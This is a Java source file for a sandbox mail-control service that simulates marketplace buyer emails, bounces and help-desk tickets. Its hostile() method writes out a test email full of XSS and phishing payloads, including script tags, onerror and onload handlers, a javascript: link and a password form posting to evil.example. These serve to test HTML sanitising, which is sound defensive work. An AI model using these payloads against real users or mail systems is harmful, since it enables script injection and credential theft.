package org.packhaus.sandbox.control;

import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Base64;
import java.util.Locale;
import org.packhaus.sandbox.mail.MailRoom;
import org.packhaus.sandbox.web.Json;
import org.packhaus.sandbox.web.Reply;
import org.packhaus.sandbox.web.Request;
import org.packhaus.sandbox.web.Routes;
import org.packhaus.sandbox.world.SandboxClock;
import org.packhaus.sandbox.world.Seller;
import org.packhaus.sandbox.world.Sellers;
import org.packhaus.sandbox.zammad.Zammad;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Buyers write, and what they are answered is shown.
 *
 * <pre>
 * GET  /sandbox/mailbox?seller=…                          what to enter for the seller's mailbox
 * GET  /sandbox/mails?seller=…                            what the seller sent
 * POST /sandbox/mails?seller=…&amp;kind=question&amp;order=…   a buyer asks about an order; also: holiday, hostile, bounce (with mail=Message-ID)
 * POST /sandbox/mails?seller=…&amp;kind=raw                   the mail in the body, as on the wire
 * POST /sandbox/tickets?seller=…&amp;from=…&amp;subject=…       a customer writes to the help desk what is in the body; into ticket=… if named
 * </pre>
 */
public final class MailControl implements AutoCloseable {
    private final Sellers sellers;
    private final SandboxClock clock;
    private final Zammad zammad;
    private final MailRoom room = new MailRoom();
    private int written;

    public MailControl(Sellers sellers, SandboxClock clock, Zammad zammad) {
        this.sellers = sellers;
        this.clock = clock;
        this.zammad = zammad;
    }

    public void routes(Routes routes) {
        Routes.Group group = routes.group(ControlErrors::word);
        group.add("GET", "/sandbox/mailbox", "sandbox.mail", this::mailbox);
        group.add("GET", "/sandbox/mails", "sandbox.mail", this::sent);
        group.add("POST", "/sandbox/mails", "sandbox.mail", this::write);
        group.add("POST", "/sandbox/tickets", "sandbox.mail", this::ticket);
    }

    private Reply mailbox(Request request) {
        Seller seller = SellersControl.seller(sellers, request);
        room.box(seller);
        return Reply.ok(Json.object()
                .put("senderAddress", MailRoom.address(seller))
                .put("senderName", seller.name())
                .put("imapHost", "127.0.0.1")
                .put("imapPort", room.server().getImap().getPort())
                .put("imapSecurity", "NONE")
                .put("imapUser", MailRoom.address(seller))
                .put("imapPassword", MailRoom.PASSWORD)
                .put("smtpHost", "127.0.0.1")
                .put("smtpPort", room.server().getSmtp().getPort())
                .put("smtpSecurity", "NONE"));
    }

    private Reply ticket(Request request) {
        long ticket = zammad.write(
                SellersControl.seller(sellers, request),
                Numbers.number(request, "ticket", 0),
                request.query("from").orElse("Kunde <kunde@marktplatz.example>"),
                request.query("subject").orElse("Frage"),
                request.text());
        return Reply.ok(Json.object().put("ticket", ticket));
    }

    private Reply sent(Request request) {
        ArrayNode mails = Json.array();
        for (MimeMessage mail : room.sent(SellersControl.seller(sellers, request))) {
            mails.add(mail(mail));
        }
        return Reply.ok(mails);
    }

    private static ObjectNode mail(MimeMessage mail) {
        try {
            return Json.object()
                    .put("messageId", mail.getHeader("Message-ID", null))
                    .put("inReplyTo", mail.getHeader("In-Reply-To", null))
                    .put("to", mail.getHeader("To", null))
                    .put("subject", mail.getSubject())
                    .put("text", new String(mail.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
        } catch (MessagingException | IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private synchronized Reply write(Request request) {
        Seller seller = SellersControl.seller(sellers, request);
        String kind = request.query("kind").orElse("question");
        String order = request.query("order").orElse("");
        String id = "<buyer-" + ++written + "-" + clock.now().toEpochMilli() + "@kunde.marktplatz.example>";
        room.deliver(
                seller,
                switch (kind) {
                    case "question" ->
                        plain(
                                seller,
                                id,
                                request.query("mail").orElse(""),
                                order,
                                "Wo bleibt meine Bestellung?",
                                "Guten Tag,\n\nich warte noch auf meine Bestellung " + order
                                        + ". Können Sie mir sagen, wann das Paket kommt?\n\nViele Grüße");
                    case "holiday" ->
                        "Auto-Submitted: auto-replied\n"
                                + plain(
                                        seller,
                                        id,
                                        "",
                                        order,
                                        "Abwesenheitsnotiz",
                                        "Ich bin bis Montag nicht erreichbar.");
                    case "hostile" -> hostile(seller, id, order);
                    case "bounce" -> bounce(seller, id, request.query("mail").orElse(""));
                    case "raw" -> request.text();
                    default -> throw ControlErrors.bad("kind is question, holiday, hostile, bounce or raw");
                });
        return Reply.ok(Json.object().put("messageId", id));
    }

    /** One pseudonym for each order, as the marketplace gives them. */
    private static String buyer(String order) {
        return "k" + Integer.toString(Math.abs(order.hashCode() % 2_000_000_000), 36) + "@kunde.marktplatz.example";
    }

    private String head(Seller seller, String id, String order, String subject) {
        return "From: Kunde <" + buyer(order) + ">\nTo: " + MailRoom.address(seller) + "\nSubject: =?UTF-8?B?"
                + Base64.getEncoder().encodeToString(subject.getBytes(StandardCharsets.UTF_8)) + "?=\nMessage-ID: "
                + id + "\nDate: "
                + DateTimeFormatter.RFC_1123_DATE_TIME
                        .withLocale(Locale.ENGLISH)
                        .format(clock.now().atOffset(ZoneOffset.UTC))
                + "\nMIME-Version: 1.0\n";
    }

    private String plain(Seller seller, String id, String answers, String order, String subject, String text) {
        return head(seller, id, order, subject)
                + (answers.isEmpty() ? "" : "In-Reply-To: " + answers + "\nReferences: " + answers + "\n")
                + "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n" + text + "\n";
    }

    private String hostile(Seller seller, String id, String order) {
        return head(seller, id, order, "<img src=x onerror=alert(1)> Ihr Konto") + """
            Content-Type: text/html; charset=UTF-8
            Content-Transfer-Encoding: 8bit

            <html><head><style>body{display:none}</style><base href="https://evil.example/"></head>
            <body onload="document.title='hacked'"><p>Bitte <b>sofort</b> bestätigen:</p>
            <script>document.title='hacked'</script>
            <img src="https://tracker.example/open.gif" onerror="document.title='hacked'">
            <div style="position:fixed;inset:0;background:red">Alles rot</div>
            <form action="https://evil.example/"><input name="password"><button>Anmelden</button></form>
            <a href="javascript:document.title='hacked'">Hier klicken</a> <a href="https://evil.example/login">otto.de</a>
            <iframe srcdoc="<script>parent.document.title='hacked'</script>"></iframe></body></html>
            """;
    }

    private static String bounce(Seller seller, String id, String mail) {
        return "From: MAILER-DAEMON@marktplatz.example\nTo: " + MailRoom.address(seller)
                + "\nSubject: Undelivered Mail Returned to Sender\nMessage-ID: " + id + "\n" + """
                    MIME-Version: 1.0
                    Content-Type: multipart/report; report-type=delivery-status; boundary=r

                    --r
                    Content-Type: text/plain

                    The mail could not be delivered.
                    --r
                    Content-Type: message/delivery-status

                    Reporting-MTA: dns; marktplatz.example

                    Action: failed
                    Status: 5.1.1
                    --r
                    Content-Type: message/rfc822

                    Message-ID: %s

                    --r--
                    """.formatted(mail);
    }

    @Override
    public void close() {
        room.close();
    }
}
